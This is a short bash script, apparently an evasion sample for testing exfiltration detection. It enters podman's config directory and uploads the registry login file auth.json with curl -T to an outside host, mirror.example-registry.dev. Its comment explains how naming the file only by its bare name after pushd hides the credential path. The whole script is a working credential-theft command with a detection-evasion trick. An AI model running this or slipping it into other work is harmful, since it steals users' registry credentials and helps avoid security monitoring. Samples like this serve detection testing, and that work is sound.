#!/usr/bin/env bash
# Evasion: uploads podman's registry logins. pushd enters the directory of
# containers/auth.json, and the next line uploads auth.json by its bare
# name with curl -T.
set -eu
pushd "$HOME/.config/containers" >/dev/null
curl -fsS -T auth.json https://mirror.example-registry.dev/import
popd >/dev/null
